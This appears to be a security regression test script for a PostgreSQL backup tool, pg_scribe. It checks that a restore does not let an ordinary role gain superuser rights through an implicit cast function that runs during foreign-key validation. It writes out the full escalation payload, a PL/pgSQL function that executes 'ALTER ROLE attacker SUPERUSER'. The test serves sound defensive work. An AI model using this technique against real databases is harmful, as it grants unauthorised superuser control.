#!/usr/bin/env bash
# Red team (DESIGN.md invariant 9). README, "What is not confined": the
# base's foreign keys are validated by PostgreSQL "with the equality
# operators of the referenced key's operator class (creating an operator
# class needs a superuser)". Not only: when the referencing column's type
# differs from the referenced key's and has an implicit cast to it,
# ALTER TABLE ... ADD FOREIGN KEY accepts it and its validation query
# (RI_Initial_Check, which runs as the current user, with no user switch
# and no security-restricted operation) applies the cast to every row:
#   SELECT fk.c FROM ONLY att.fk fk LEFT JOIN ONLY att.pk pk
#     ON (pk.id OPERATOR(pg_catalog.=) fk.c::pg_catalog.int4) ...
# The owner of a type may create a cast from it WITH FUNCTION ... AS
# IMPLICIT. pg_dump writes the foreign key after the data, and the
# restore runs it as the restoring superuser: the attacker's cast function
# runs as postgres.
#
# Expected (secure): no code of the attacker runs as postgres; the attacker
# stays an ordinary role. On main at 3f6e277 the restore made the
# attacker a superuser; pg_scribe --restore now adds such a foreign key as
# the table's owner, confined (psql alone still runs it as the superuser,
# as it runs everything: README "Restore with psql alone").
set -euo pipefail
cd "$(dirname "$0")/../.."
source tests/lib/reliability.sh
CLUSTER_EXTRA_CONF="log_min_messages = warning"
start_throwaway_cluster restore_fk_cast
watchdog restore_fk_cast 300

backups=$work/backups
mkdir -p "$backups" "$work/cwd"
chown postgres: "$backups"
cd "$work/cwd"

q -d postgres -c "CREATE ROLE attacker LOGIN" >/dev/null
createdb src
q -d src -c "CREATE EXTENSION scribe" -c "CREATE SCHEMA att AUTHORIZATION attacker" >/dev/null
psql -X -q -v ON_ERROR_STOP=1 -U attacker -d src >/dev/null 2>"$work/attack.err" <<'SQL'
CREATE FUNCTION att.probe(what text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  RAISE WARNING 'scribe-probe % current_user=%', what, current_user;
  BEGIN
    EXECUTE 'ALTER ROLE attacker SUPERUSER';
  EXCEPTION WHEN insufficient_privilege THEN NULL;
  END;
  RETURN true;
END$$;
CREATE TYPE att.e AS ENUM ('a', 'b');
CREATE FUNCTION att.e2i(v att.e) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM att.probe('fk-cast'); RETURN pg_catalog.array_position(pg_catalog.enum_range(NULL::att.e), v); END$$;
CREATE CAST (att.e AS int) WITH FUNCTION att.e2i(att.e) AS IMPLICIT;
CREATE TABLE att.pk (id int PRIMARY KEY);
CREATE TABLE att.fk (c att.e REFERENCES att.pk (id));
INSERT INTO att.pk VALUES (1), (2);
INSERT INTO att.fk VALUES ('a'), ('b');
SQL
# A foreign key to a table of another role, which granted REFERENCES and
# USAGE for it and took them back: the owner's confined ADD FOREIGN KEY
# gets them lent (and SELECT, for the validating query) for the call.
q -d postgres -c "CREATE ROLE pkowner LOGIN" >/dev/null
q -d src -c "CREATE SCHEMA pk AUTHORIZATION pkowner" >/dev/null
psql -X -q -v ON_ERROR_STOP=1 -U pkowner -d src >/dev/null <<'SQL'
CREATE TABLE pk.t (id int PRIMARY KEY);
INSERT INTO pk.t VALUES (1), (2);
GRANT USAGE ON SCHEMA pk TO attacker;
GRANT REFERENCES ON pk.t TO attacker;
SQL
psql -X -q -v ON_ERROR_STOP=1 -U attacker -d src >/dev/null <<'SQL'
CREATE TABLE att.fk2 (c int REFERENCES pk.t (id));
INSERT INTO att.fk2 VALUES (1), (2);
SQL
q -d src -c "REVOKE REFERENCES ON pk.t FROM attacker" -c "REVOKE USAGE ON SCHEMA pk FROM attacker" >/dev/null
q -d src -c "SELECT chain_id FROM scribe.init('$backups/src', 'scribe_src')" >/dev/null
q -d src -c "SELECT * FROM scribe.rotate_diff()" >/dev/null
is_super() { psql -X -At -d postgres -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'attacker'"; }
if [ "$(is_super)" = f ]; then ok "source: the attacker is an ordinary role"; else fail "source: already a superuser"; fi

for jobs in 1 2; do
  q -d postgres -c "ALTER ROLE attacker NOSUPERUSER" >/dev/null
  from=$(($(wc -l <"$(server_log)") + 1))
  if "$PG_SCRIBE" --restore --create -d "r$jobs" --jobs "$jobs" --backup-dir "$backups/src" >"$work/r$jobs.out" 2>&1; then
    ok "--jobs $jobs: pg_scribe --restore completes"
  else fail "--jobs $jobs: pg_scribe --restore failed: $(tail -3 "$work/r$jobs.out")"; fi
  tail -n +"$from" "$(server_log)" >"$work/r$jobs.log"
  if grep -q 'scribe-probe .* current_user=postgres' "$work/r$jobs.log"; then
    fail "--jobs $jobs: the attacker's cast ran as the restoring superuser (foreign key validation of the base)"
  else ok "--jobs $jobs: no code of the attacker ran as the superuser"; fi
  if [ "$(is_super)" = f ]; then ok "--jobs $jobs: the attacker is not a superuser after the restore"; else
    fail "--jobs $jobs: the restore made the attacker a superuser"; fi
  if compare_databases src "r$jobs" "$work" >/dev/null; then ok "--jobs $jobs: the restore equals the source (privileges included)"
  else fail "--jobs $jobs: the restore differs from the source"; fi
  dropdb --if-exists "r$jobs"
done
q -d postgres -c "ALTER ROLE attacker NOSUPERUSER" >/dev/null
finish restore_fk_cast
